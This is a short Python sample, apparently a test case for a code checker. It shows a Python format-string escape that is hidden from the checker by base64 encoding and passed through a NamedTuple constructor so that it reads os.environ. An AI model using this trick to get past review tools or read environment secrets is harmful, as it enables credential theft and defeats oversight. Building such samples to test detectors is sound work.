# family: format
# Escape: a typing.NamedTuple field default is a constant in the class body, so self.template.format is trusted;
# NamedTuple.__new__ fills the field from the constructor argument, a template decoded at run time
# ("{0.__init__.__globals__[_os].environ}"). Formatting random.Random() returns os.environ.
import base64
import random
from typing import NamedTuple


class Cell(NamedTuple):
    template: str = "{0}"

    def render(self, value) -> str:
        return self.template.format(value)


def tool() -> str:
    return Cell(base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()).render(random.Random())
